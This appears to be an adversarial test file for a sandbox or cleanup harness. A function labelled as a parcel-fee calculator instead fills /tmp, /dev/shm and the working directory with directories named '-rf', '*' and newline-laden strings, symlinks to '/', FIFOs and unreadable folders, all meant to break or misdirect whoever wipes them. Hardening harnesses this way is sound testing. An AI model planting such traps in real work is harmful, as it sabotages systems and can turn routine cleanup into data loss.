# expect: failed
# attack: leaves locked folders, links, pipes and names that would confuse whoever wipes them
import os


def parcel_fee(sides, grams):
    os.umask(0)
    for folder in ("/tmp", "/dev/shm", "."):
        for name in ("new\nline", "-rf", " ", "\udcff\udc80", "n" * 255, ".wipe-1", ".wipe-2", "*"):
            path = f"{folder}/{name}"
            if os.path.exists(path):
                continue
            os.mkdir(path)
            os.symlink("/", path + "/root")
            os.symlink("..", path + "/up")
            os.mkfifo(path + "/pipe")
            os.mkdir(path + "/inner")
            open(path + "/inner/file", "w").close()
            os.link(path + "/inner/file", path + "/hard")
            os.chmod(path + "/inner", 0o1000)
            os.chmod(path, 0)
    os.symlink("/usr", "/tmp/usr")
    os.chmod("/tmp/work", 0)
